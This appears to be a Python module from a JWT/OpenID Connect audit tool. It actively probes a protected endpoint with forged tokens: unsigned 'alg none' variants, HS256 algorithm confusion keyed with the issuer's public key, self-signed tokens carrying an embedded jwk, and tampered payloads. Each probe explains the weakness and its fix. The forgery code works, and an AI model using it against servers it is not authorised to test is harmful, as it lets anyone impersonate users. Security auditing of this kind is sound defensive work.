"""Active probes: forged tokens sent to a protected endpoint, each of which must be refused.

Only with ``--active`` and a genuine token: the probes copy the genuine token's claims into
forgeries made with the auditor's own keys (or none), so a server that accepts one is shown to
let anyone act as that user. The genuine token is sent first; if even it is refused, a refusal
of a forgery would prove nothing and the probes skip.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from idgate.audit.decode import DecodedToken, b64url_decode, b64url_encode, decode_unverified, number
from idgate.audit.model import Outcome, Skip, failed, passed, warned
from idgate.audit.registry import check
from idgate.audit.target import Target

REFUSED = (400, 401, 403)


def _json_b64(value: dict[str, Any]) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode())


def _endpoint(target: Target) -> str:
    if not target.options.active:
        raise Skip("active probes send forged tokens to the server; run with --active (and --token) to allow them")
    url = target.options.protected_url or target.endpoint("userinfo_endpoint")
    if url is None:
        raise Skip("no protected endpoint: the discovery document names no userinfo_endpoint; pass --protected-url")
    return url


def _send(target: Target, url: str, token: str) -> int:
    return target.request("GET", url, headers={"Authorization": f"Bearer {token}"}).status_code


def _genuine(target: Target) -> tuple[str, DecodedToken]:
    """The protected URL and the genuine token, after checking the server accepts it."""
    url = _endpoint(target)
    token = target.sample_jwt()
    status = target.remember("probe.baseline", lambda: _send(target, url, token))
    if not 200 <= status < 300:
        raise Skip(f"the genuine token itself was refused by {url} ({status}), so refusals of forgeries "
                   "would prove nothing")
    return url, decode_unverified(token)


def _judge(target: Target, url: str, forged: dict[str, str]) -> Outcome:
    accepted, lines = [], []
    for label, token in forged.items():
        status = _send(target, url, token)
        lines.append(f"{label} → {status}")
        if 200 <= status < 300:
            accepted.append(label)
        elif status not in REFUSED:
            lines[-1] += " (neither accepted nor cleanly refused)"
    text = f"GET {url}: " + "; ".join(lines) + "."
    if accepted:
        return failed(text + f" ACCEPTED: {', '.join(accepted)} — anyone can act as this user.")
    if any("cleanly" in line for line in lines):
        return warned(text)
    return passed(text)


@check("probe.alg-none", group="active", title="Unsigned tokens (alg: none) are refused",
       explanation="""The JWT standard allows 'alg: none', an unsigned token. A service that accepts one lets
       anyone write their own token with any user and permissions. This probe copies the genuine token's
       claims into unsigned tokens (alg none, None, NONE, nOnE) and sends them.""",
       fix="Verify with an explicit allow-list of algorithms (for example ['ES256']) that never includes 'none'.")
def alg_none(target: Target) -> Outcome:
    url, genuine = _genuine(target)
    payload = genuine.signing_input.split(b".")[1].decode()
    forged = {}
    for spelling in ("none", "None", "NONE", "nOnE"):
        header = {**genuine.header, "alg": spelling}
        header.pop("kid", None)
        forged[f"alg {spelling}"] = f"{_json_b64(header)}.{payload}."
    return _judge(target, url, forged)


@check("probe.hs256-public-key", group="active", title="HS256 tokens signed with the public key are refused",
       explanation="""'Algorithm confusion': an attacker takes the issuer's public key (anyone can download
       it), uses it as an HS256 shared secret, and signs a token. A verifier that lets the token choose the
       algorithm then checks it with the same public key and accepts it.""",
       fix="""Pick the algorithm from the key (never from the token's header) and refuse HS256 wherever
       public keys are used.""")
def hs256_public_key(target: Target) -> Outcome:
    url, genuine = _genuine(target)
    keys = [k for k in target.jwks()["keys"] if isinstance(k, dict)]
    kid = genuine.header.get("kid")
    chosen = [k for k in keys if k.get("kid") == kid] or keys
    payload = genuine.signing_input.split(b".")[1].decode()
    forged = {}
    for jwk in chosen[:3]:
        pem = _public_pem(jwk)
        if pem is None:
            continue
        header = {**genuine.header, "alg": "HS256", "kid": jwk.get("kid", kid)}
        head = _json_b64(header)
        for label, secret in (("PEM", pem), ("PEM without final newline", pem.rstrip(b"\n"))):
            mac = hmac.new(secret, f"{head}.{payload}".encode(), hashlib.sha256).digest()
            forged[f"HS256 keyed with kid {jwk.get('kid')} {label}"] = f"{head}.{payload}.{b64url_encode(mac)}"
    if not forged:
        raise Skip("the JWK Set has no RSA, EC or Ed25519 public key to misuse")
    return _judge(target, url, forged)


@check("probe.embedded-jwk", group="active", title="Tokens carrying their own key (jwk header) are refused",
       explanation="""A JWT header may include a key ('jwk'). A verifier that uses that key trusts the token
       to vouch for itself: an attacker signs with their own private key and puts the matching public key
       in the header.""",
       fix="Ignore (better: refuse) jwk, jku, x5u and x5c headers; take keys only from the issuer's JWKS.")
def embedded_jwk(target: Target) -> Outcome:
    url, genuine = _genuine(target)
    key = ec.generate_private_key(ec.SECP256R1())
    numbers = key.public_key().public_numbers()
    jwk = {"kty": "EC", "crv": "P-256", "x": b64url_encode(numbers.x.to_bytes(32, "big")),
           "y": b64url_encode(numbers.y.to_bytes(32, "big"))}
    payload = genuine.signing_input.split(b".")[1].decode()
    forged = {}
    for label, kid in (("own kid", "idgate-audit-attacker"), ("genuine kid", genuine.header.get("kid"))):
        header = {**genuine.header, "alg": "ES256", "jwk": jwk}
        if kid:
            header["kid"] = kid
        head = _json_b64(header)
        der = key.sign(f"{head}.{payload}".encode(), ec.ECDSA(hashes.SHA256()))
        r, s = decode_dss_signature(der)
        signature = b64url_encode(r.to_bytes(32, "big") + s.to_bytes(32, "big"))
        forged[f"ES256 + embedded jwk, {label}"] = f"{head}.{payload}.{signature}"
    return _judge(target, url, forged)


@check("probe.tampered-signature", group="active", title="Tokens whose content was changed are refused",
       explanation="""Some services decode a JWT without checking its signature at all. This probe adds a
       claim to the genuine token and keeps the old signature, which no longer matches; any service that
       accepts it will accept any edit, such as another user's id.""",
       fix="""Always verify the signature (idgate.rs.Verifier, or a JWT library's verify/decode with a key),
       never just decode.""")
def tampered(target: Target) -> Outcome:
    url, genuine = _genuine(target)
    head, _, signature = target.sample_jwt().split(".")
    claims = {**genuine.claims, "idgate_audit": "tampered"}
    return _judge(target, url, {"payload changed, signature kept": f"{head}.{_json_b64(claims)}.{signature}"})


@check("probe.expired", group="active", title="Expired tokens are refused",
       explanation="""An expired token must stop working, or 'exp' protects nothing. Only a genuinely signed
       expired token tests this (a forged one is refused for its signature), so pass one with
       --expired-token.""",
       fix="Check 'exp' on every request, allowing at most a small clock skew (idgate.rs allows 30 seconds).")
def expired(target: Target) -> Outcome:
    url, _ = _genuine(target)
    token = target.options.expired_token
    if not token:
        raise Skip("needs a genuinely signed token that has expired (pass --expired-token TOKEN); a forged one "
                   "would be refused for its signature, which proves nothing about expiry")
    exp = number(decode_unverified(token).claims, "exp")
    if exp is None or exp > time.time() - 60:
        raise Skip("the --expired-token has not been expired for at least a minute")
    return _judge(target, url, {"genuine token expired a while ago": token})


@check("probe.wrong-audience", group="active", title="Tokens for another audience are refused",
       explanation="""A token issued for one service ('aud') must not work at another, or any service that
       receives users' tokens could replay them elsewhere. Only a genuinely signed token for another
       audience tests this, so pass one with --wrong-audience-token.""",
       fix="Have every service check that 'aud' names itself.")
def wrong_audience(target: Target) -> Outcome:
    url, _ = _genuine(target)
    token = target.options.wrong_audience_token
    if not token:
        raise Skip("needs a genuinely signed token for a different audience (pass --wrong-audience-token TOKEN); "
                   "a forged one would be refused for its signature, which proves nothing about aud")
    return _judge(target, url, {"genuine token for another audience": token})


def _public_pem(jwk: dict[str, Any]) -> bytes | None:
    try:
        public: Any
        if jwk.get("kty") == "RSA":
            n, e = (int.from_bytes(b64url_decode(jwk[m]), "big") for m in ("n", "e"))
            public = rsa.RSAPublicNumbers(e, n).public_key()
        elif jwk.get("kty") == "EC":
            curve = {"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1(), "P-521": ec.SECP521R1()}[jwk["crv"]]
            x, y = (int.from_bytes(b64url_decode(jwk[m]), "big") for m in ("x", "y"))
            public = ec.EllipticCurvePublicNumbers(x, y, curve).public_key()
        elif jwk.get("kty") == "OKP" and jwk.get("crv") == "Ed25519":
            public = ed25519.Ed25519PublicKey.from_public_bytes(b64url_decode(jwk["x"]))
        else:
            return None
    except (KeyError, TypeError, ValueError):
        return None
    return bytes(public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
